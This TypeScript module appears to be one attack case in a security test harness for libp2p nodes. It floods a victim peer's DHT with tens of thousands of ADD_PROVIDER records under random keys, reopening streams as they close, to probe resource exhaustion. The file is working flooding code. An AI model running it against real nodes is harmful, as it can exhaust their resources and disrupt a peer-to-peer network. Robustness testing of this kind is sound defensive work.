/** Row 8: very many provider records, each under another key. */
import { randomBytes } from 'node:crypto'
import type { Attack } from './attack.ts'
import { finding } from './attack.ts'
import { ADD_PROVIDER, cidOf, Field, provider } from './dht-messages.ts'
import { bytesField, delimited, numberField } from './protobuf.ts'
import { DHT_PROTOCOL, dial, openStream, sendAll, stranger } from './stranger.ts'

const RECORDS = 92_000
/** Of one send. */
const BATCH = 500
const SEND_MS = 25_000

export const providerRecords: Attack = {
  row: 8,
  name: 'provider-records',
  against: ['secret', 'open'],
  async run({ victim, source, pressing }) {
    const libp2p = await stranger(source)
    try {
      const connection = await dial(libp2p, victim.address)
      const self = bytesField(Field.providers, provider(libp2p.peerId.toMultihash().bytes, ['/ip4/10.0.0.1/tcp/1']))
      const type = numberField(Field.type, ADD_PROVIDER)
      const deadlineMs = performance.now() + SEND_MS
      let sent = 0
      let stream = await openStream(connection, DHT_PROTOCOL)
      while (stream !== undefined && sent < RECORDS && performance.now() < deadlineMs) {
        const batch = Array.from({ length: BATCH }, () => delimited(type, bytesField(Field.key, cidOf(randomBytes(32))), self))
        if (await sendAll(stream, Buffer.concat(batch))) sent += BATCH
        else stream = connection.status === 'open' ? await openStream(connection, DHT_PROTOCOL) : undefined
      }
      await pressing()
      return [finding(true, sent === 0 ? 'the DHT is not served to a stranger' : `${sent} records sent`)]
    } finally {
      await libp2p.stop()
    }
  },
}
